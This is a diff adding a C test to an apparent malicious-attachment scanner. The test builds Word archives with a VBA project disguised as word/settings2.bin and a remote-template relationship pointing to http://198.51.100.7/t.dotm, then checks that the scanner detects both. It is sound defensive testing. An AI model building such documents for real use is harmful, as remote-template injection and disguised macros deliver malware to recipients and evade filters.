@@ -635,6 +635,53 @@ odf_python(struct detect_scan *s)
 	free(z);
 }
 
+/*
+ * rev23: a VBA project under another name, found by its relationship
+ * (word/settings2.bin); a remote template whose Target is written with
+ * single quotes and blanks round "=".
+ */
+static void
+ooxml_rels(struct detect_scan *s)
+{
+	static const char ct[] = "<Types><Override PartName=\"/word/"
+	    "document.xml\"/></Types>";
+	static const char doc[] = "<w:document>hello</w:document>";
+	static const char vrels[] = "<Relationships><Relationship Id=\"rId9\" "
+	    "Type=\"http://schemas.microsoft.com/office/2006/relationships/"
+	    "vbaProject\" Target=\"settings2.bin\"/></Relationships>";
+	static const char trels[] = "<Relationships><Relationship Id=\"rId1\" "
+	    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
+	    "relationships/attachedTemplate\" Target = 'http://198.51.100.7/"
+	    "t.dotm' TargetMode=\"External\"/></Relationships>";
+	struct ent		 e[] = {
+		{ "[Content_Types].xml", (const unsigned char *)ct,
+		    sizeof(ct) - 1 },
+		{ "word/document.xml", (const unsigned char *)doc,
+		    sizeof(doc) - 1 },
+		{ "word/_rels/document.xml.rels", (const unsigned char *)vrels,
+		    sizeof(vrels) - 1 },
+		{ "word/settings2.bin", PE, 64 },
+	};
+	struct detect_result	 r;
+	const struct detect_finding *f;
+	unsigned char		*z;
+	size_t			 zl;
+
+	z = make(0, 0, e, nitems(e), NULL, &zl);
+	scan(s, "invoice.docm", z, zl, &r);
+	ok(dt_find(&r, "attach.macro") != NULL,
+	    "a VBA project found by its relationship, not its name");
+	free(z);
+	e[2] = (struct ent){ "word/_rels/settings.xml.rels",
+	    (const unsigned char *)trels, sizeof(trels) - 1 };
+	z = make(0, 0, e, 3, NULL, &zl);
+	scan(s, "invoice.docx", z, zl, &r);
+	f = dt_find(&r, "attach.remote_template");
+	is_str(f ? f->url : NULL, "http://198.51.100.7/t.dotm",
+	    "a remote template written Target = '...'");
+	free(z);
+}
+
 static void
 av(void)
 {
@@ -1513,6 +1560,7 @@ main(void)
 	unicode_names(s);
 	office_others(s);
 	odf_python(s);
+	ooxml_rels(s);
 	ooxml_bomb(s);
 	pdf_streams(s);
 	review(e);
